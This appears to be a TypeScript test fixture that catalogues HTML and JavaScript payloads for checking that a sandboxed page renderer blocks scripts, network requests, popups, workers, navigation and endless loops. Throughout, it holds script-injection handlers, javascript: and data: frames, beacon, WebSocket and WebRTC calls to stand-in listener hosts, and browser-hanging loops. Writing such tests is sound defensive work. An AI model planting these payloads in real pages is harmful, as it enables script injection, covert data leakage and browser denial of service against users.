type Attacks = Readonly<Record<string, string>>;

/** What a static page may hold that would run a script, or load another page. */
export const pageScripts: Attacks = {
  script: `<script>document.body.append("ran"); new WebSocket("{SOCKET}/page"); fetch("{LISTENER}/page")</script>`,
  "script-file": `<script src="{LISTENER}/page.js"></script><script defer src="/page.js"></script>`,
  module: `<script type="importmap">{"imports":{"x":"{LISTENER}/x.js"}}</script>
<script type="module">import "x"; import("{LISTENER}/module.js")</script>`,
  handlers: `<img src="data:," onerror="new WebSocket('{SOCKET}/error')"><details open ontoggle="new WebSocket('{SOCKET}/toggle')">x</details>
<svg onload="new WebSocket('{SOCKET}/load')"><animate onbegin="new WebSocket('{SOCKET}/begin')" attributeName="x" dur="1s"/></svg>
<p style="animation:a 1ms" onanimationstart="new WebSocket('{SOCKET}/animation')">x</p><style>@keyframes a{to{top:1px}}</style>`,
  "svg-script": `<svg><script>new WebSocket("{SOCKET}/svg")</script><script href="{LISTENER}/svg.js"/><image href="{LISTENER}/image"/></svg>`,
  frames: `<iframe srcdoc="<script>new WebSocket('{SOCKET}/srcdoc')</script>"></iframe><iframe src="javascript:new WebSocket('{SOCKET}/url')"></iframe>
<iframe src="data:text/html,<script>new WebSocket('{SOCKET}/data')</script>"></iframe><object data="{LISTENER}/object"></object><embed src="{LISTENER}/embed">`,
  refresh: `<meta http-equiv="refresh" content="0;url={LISTENER}/refresh"><meta http-equiv="refresh" content="0;url=data:text/html,gone">`,
  "own-policy": `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'"><script>fetch("{LISTENER}/policy")</script>`,
  noscript: `<noscript><meta http-equiv="refresh" content="0;url={LISTENER}/n"><img src="{LISTENER}/i"><style>@import "{LISTENER}/s";</style></noscript>`,
  "form-and-base": `<base href="{LISTENER}/base/"><form action="{LISTENER}/form"><input autofocus onfocus="form.submit()"></form><img src="relative.png">`,
  template: `<div><template shadowrootmode="open"><script>new WebSocket("{SOCKET}/shadow")</script><link rel="stylesheet" href="{LISTENER}/shadow.css"></template></div>`,
};

/** What a static page may say that makes a browser ask for something, or get ready to. */
export const hints: Attacks = {
  connect: `<link rel="preconnect" href="{LISTENER}"><link rel="preconnect" crossorigin href="{LISTENER}">`,
  dns: `<link rel="dns-prefetch" href="//leak.example"><meta http-equiv="x-dns-prefetch-control" content="on"><a href="https://leak2.example">x</a>`,
  prefetch: `<link rel="prefetch" href="{LISTENER}/prefetch"><link rel="prerender" href="{LISTENER}/prerender"><link rel="next" href="{LISTENER}/next">`,
  preload: `<link rel="preload" as="image" href="{LISTENER}/a"><link rel="preload" as="font" crossorigin href="{LISTENER}/b"><link rel="modulepreload" href="{LISTENER}/c">`,
  rules: `<script type="speculationrules">{"prefetch":[{"urls":["{LISTENER}/p"],"eagerness":"immediate"}],"prerender":[{"urls":["{LISTENER}/q","/other"],"eagerness":"immediate"}]}</script>`,
  sheets: `<link rel="stylesheet" href="{LISTENER}/sheet.css"><style>@import url({LISTENER}/import.css);body{background:url({LISTENER}/ground)}</style>`,
  "styles-in-place": `<p style="background:url({LISTENER}/p);list-style:url({LISTENER}/l);border-image:url({LISTENER}/b) 1;cursor:url({LISTENER}/c),auto;filter:url({LISTENER}/f#x)">x</p>`,
  fonts: `<style>@font-face{font-family:away;src:url({LISTENER}/font.woff2)}h2{font-family:away}</style><p style="font-family:away">x</p>`,
  media: `<video autoplay poster="{LISTENER}/poster" src="{LISTENER}/video"></video><audio autoplay src="{LISTENER}/audio"></audio><img srcset="{LISTENER}/set 1x" loading="eager">`,
  others: `<link rel="manifest" href="{LISTENER}/manifest"><link rel="icon" href="{LISTENER}/icon"><svg><use href="{LISTENER}/use#x"/><feImage href="{LISTENER}/fe"/></svg>`,
};

/** Ways of a script to somebody on the network. */
export const network: Attacks = {
  socket: `new WebSocket("{SOCKET}/a"); addEventListener("load", () => new WebSocket("{SOCKET}/b"));`,
  calls: `const host = new URL("{LISTENER}").host;
const servers = ["stun:" + host, "turn:" + host, "turn:" + host + "?transport=tcp"].map((urls) => ({ urls, username: "a", credential: "b" }));
const peer = new RTCPeerConnection({ iceServers: servers, iceCandidatePoolSize: 4 });
peer.createDataChannel("x");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));`,
  "calls-with-candidate": `const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];
const port = new URL("{LISTENER}").port;
a.createDataChannel("x");
a.createOffer().then(async (offer) => {
  await a.setLocalDescription(offer);
  await b.setRemoteDescription(offer);
  await b.setLocalDescription(await b.createAnswer());
  await a.setRemoteDescription(b.localDescription);
  for (const kind of ["udp", "tcp"])
    await a.addIceCandidate({ candidate: "candidate:1 1 " + kind + " 99 127.0.0.1 " + port + " typ host tcptype passive", sdpMid: "0" });
});`,
  fetches: `fetch("{LISTENER}/a", { mode: "no-cors", keepalive: true }).catch(() => 0);
const request = new XMLHttpRequest(); request.open("GET", "{LISTENER}/b"); request.send();`,
  beacon: `navigator.sendBeacon("{LISTENER}/a", "x"); addEventListener("pagehide", () => navigator.sendBeacon("{LISTENER}/b", "x"));`,
  events: `new EventSource("{LISTENER}/events");`,
  transport: `new WebTransport("https://" + new URL("{LISTENER}").host).ready.catch(() => 0);`,
  import: `import("{LISTENER}/a.js").catch(() => 0);
const map = document.createElement("script"); map.type = "importmap"; map.textContent = '{"imports":{"x":"{LISTENER}/x.js"}}';
document.head.append(map); import("x").catch(() => 0);`,
  elements: `for (const [name, key] of [["img", "src"], ["script", "src"], ["video", "poster"], ["object", "data"], ["embed", "src"]])
  document.documentElement.append(Object.assign(document.createElement(name), { [key]: "{LISTENER}/" + name }));`,
  styles: `const sheet = new CSSStyleSheet(); sheet.replaceSync("body{background:url({LISTENER}/sheet)}"); document.adoptedStyleSheets = [sheet];
document.head.append(Object.assign(document.createElement("style"), { textContent: "@import url({LISTENER}/import);h2{background:url({LISTENER}/h2)}" }));
new FontFace("x", "url({LISTENER}/font)").load().catch(() => 0);`,
  hints: `for (const rel of ["preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload", "stylesheet", "manifest", "icon"])
  document.head.append(Object.assign(document.createElement("link"), { rel, as: "fetch", href: "{LISTENER}/" + rel }));`,
  rules: `for (const kind of ["prefetch", "prerender"]) {
  const rules = document.createElement("script"); rules.type = "speculationrules";
  rules.textContent = JSON.stringify({ [kind]: [{ urls: ["{LISTENER}/" + kind, "/?other"], eagerness: "immediate" }] });
  document.head.append(rules);
}`,
  pings: `addEventListener("load", () => {
  const link = Object.assign(document.createElement("a"), { href: "#/1", ping: "{LISTENER}/ping" });
  document.body.append(link); link.click();
});`,
};

/** Windows besides the page. */
export const popups: Attacks = {
  open: `window.open("{LISTENER}/popup");`,
  "open-alone": `window.open("{LISTENER}/popup", "_blank", "noopener,noreferrer");`,
  "written-into": `const other = window.open(""); other?.document.write("<img src='{LISTENER}/written'>");`,
  "sent-away": `const other = window.open("about:blank"); if (other) other.location = "{LISTENER}/sent";`,
  link: `addEventListener("load", () => {
  const link = Object.assign(document.createElement("a"), { href: "{LISTENER}/link", target: "_blank" });
  document.body.append(link); link.click();
});`,
  form: `addEventListener("load", () => {
  const form = Object.assign(document.createElement("form"), { action: "{LISTENER}/form", target: "_blank" });
  document.body.append(form); form.submit();
});`,
  dialogs: `alert("x"); confirm("x"); prompt("x"); print();`,
};

/** Scripts beside the page. */
export const workers: Attacks = {
  blob: `try { new Worker(URL.createObjectURL(new Blob(["new WebSocket('{SOCKET}/worker')"]))); } catch {}`,
  data: `try { new Worker("data:text/javascript,new WebSocket('{SOCKET}/data')"); } catch {}`,
  file: `try { new Worker("{LISTENER}/worker.js"); } catch {}`,
  own: `try { new Worker("/?view=print"); } catch {}`,
  shared: `try { new SharedWorker(URL.createObjectURL(new Blob(["new WebSocket('{SOCKET}/shared')"]))); } catch {}`,
  service: `navigator.serviceWorker?.register("/?view=print").catch(() => 0);`,
  worklet: `CSS.paintWorklet?.addModule("{LISTENER}/paint.js").catch(() => 0);
new AudioContext().audioWorklet.addModule("{LISTENER}/audio.js").catch(() => 0);`,
};

/** Pages inside of the page, and code that is made while it runs. */
export const frames: Attacks = {
  text: `addEventListener("load", () => document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>new WebSocket('{SOCKET}/srcdoc')</" + "script><img src='{LISTENER}/i'>" })));`,
  blob: `addEventListener("load", () => document.body.append(Object.assign(document.createElement("iframe"), { src: URL.createObjectURL(new Blob(["<img src='{LISTENER}/i'>"], { type: "text/html" })) })));`,
  away: `addEventListener("load", () => document.body.append(Object.assign(document.createElement("iframe"), { src: "{LISTENER}/frame" })));`,
  inside: `addEventListener("load", () => {
  const frame = document.createElement("iframe"); document.body.append(frame);
  try { new frame.contentWindow.WebSocket("{SOCKET}/inside"); } catch {}
  try { frame.contentWindow.location = "{LISTENER}/inside"; } catch {}
});`,
  written: `addEventListener("load", () => document.body.insertAdjacentHTML("beforeend", "<img src=data: onerror='new WebSocket(\\"{SOCKET}/handler\\")'><script>new WebSocket('{SOCKET}/inline')</" + "script>"));`,
  evaluated: `for (const run of [eval, Function, setTimeout]) try { run("new WebSocket('{SOCKET}/evaluated')"); } catch {}`,
};

/** Ways to make the page another one. */
export const leaving: Attacks = {
  location: `location.href = "{LISTENER}/go";`,
  "when-loaded": `addEventListener("load", () => location.replace("{LISTENER}/go"));`,
  itself: `addEventListener("load", () => location.reload());`,
  link: `addEventListener("load", () => { const link = Object.assign(document.createElement("a"), { href: "{LISTENER}/go" }); document.body.append(link); link.click(); });`,
  refresh: `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url={LISTENER}/go">');`,
  empty: `addEventListener("load", () => { location.href = "about:blank"; });`,
  blob: `addEventListener("load", () => { location.href = URL.createObjectURL(new Blob(["<p>other</p>"], { type: "text/html" })); });`,
  "same-window": `window.open("{LISTENER}/go", "_self");`,
};

/** Scripts that do not come to an end; each is waited for until its deadline, so there are few. */
export const loops: Attacks = {
  endless: "for (;;);",
  promises: "const turn = () => Promise.resolve().then(turn); turn();",
  dialogs: "for (;;) alert('x');",
  "when-printed": `addEventListener("beforeprint", () => { for (;;); }); matchMedia("print").addEventListener("change", () => { for (;;); });`,
  "after-ready": `addEventListener("load", () => setInterval(() => { const end = Date.now() + 60_000_000; while (Date.now() < end); }, 0));`,
  "never-ready": `Object.defineProperty(document.documentElement, "dataset", { get() { throw new Error("never"); } });`,
};
